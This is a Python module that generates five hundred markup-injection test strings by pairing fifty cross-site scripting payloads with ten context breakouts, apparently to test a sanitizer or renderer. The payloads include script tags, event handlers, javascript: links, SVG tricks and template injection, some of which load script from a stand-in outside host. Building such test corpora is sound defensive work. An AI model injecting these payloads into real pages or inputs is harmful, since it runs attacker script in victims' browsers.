"""Five hundred texts that would run where a page took them for markup: fifty tricks in ten disguises."""

from __future__ import annotations

RUN = "window.__x=1"
ELSEWHERE = "ond.example"
"""A host that nobody has; a request to it is as bad as a script that ran."""
BREAKOUTS = ("", '">', "'>", "</textarea>", "</script>", "</style>", "-->", "](x)", "\n\n", "</title>")
"""Ways out of where the text stands."""
TRICKS = tuple(
    trick.replace("RUN", RUN).replace("ELSEWHERE", ELSEWHERE)
    for trick in (
        "<script>RUN</script>",
        "<ScRiPt>RUN</sCrIpT>",
        "<script/x>RUN</script>",
        "<scr<script>ipt>RUN</script>",
        "<script src=//ELSEWHERE/x.js></script>",
        "<img src=x onerror=RUN>",
        "<img/src=x/onerror=RUN>",
        "<img src=//ELSEWHERE/x.png>",
        "<svg onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><a href=javascript:RUN><text>tryk</text></a>",
        "<math><mtext><img src=x onerror=RUN>",
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
        "<iframe src=javascript:parent.RUN></iframe>",
        "<iframe src=//ELSEWHERE></iframe>",
        "<object data=javascript:RUN></object>",
        "<embed src=javascript:RUN>",
        "<details open ontoggle=RUN>x</details>",
        "<input autofocus onfocus=RUN>",
        "<select autofocus onfocus=RUN></select>",
        "<textarea autofocus onfocus=RUN></textarea>",
        "<video><source onerror=RUN></video>",
        "<audio src=x onerror=RUN></audio>",
        "<marquee onstart=RUN>x</marquee>",
        "<body onload=RUN>",
        "<x tabindex=1 autofocus onfocus=RUN>",
        "<style>@import '//ELSEWHERE/x.css';</style>",
        "<style>@keyframes x{}</style><x style=animation-name:x onanimationstart=RUN>",
        "<link rel=stylesheet href=//ELSEWHERE/x.css>",
        "<div style=background:url(//ELSEWHERE/x)>x</div>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
        "<base href=//ELSEWHERE/>",
        "<form action=javascript:RUN><button>tryk</button></form>",
        "<a href=javascript:RUN>tryk</a>",
        "<a href='data:text/html,<script>RUN</script>'>tryk</a>",
        "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
        "<template><script>RUN</script></template>",
        "[tryk](javascript:RUN)",
        "[tryk](JaVaScRiPt:RUN)",
        "![x](//ELSEWHERE/x.png)",
        "<javascript:RUN>",
        r"$\href{javascript:RUN}{x}$",
        ":red[<img src=x onerror=RUN>]",
        "{{constructor.constructor('RUN')()}}",
        "${RUN}",
        "x' onmouseover='RUN",
        'x" autofocus onfocus="RUN',
        "&lt;script&gt;RUN&lt;/script&gt;",
        r"\u003cimg src=x onerror=RUN\u003e",
    )
)
ROUNDS = len(BREAKOUTS)


def of_round(turn: int) -> list[str]:
    """Return every trick once, each in another disguise in every round; ten rounds are all of them."""
    return [BREAKOUTS[(place + turn) % ROUNDS] + trick for place, trick in enumerate(TRICKS)]
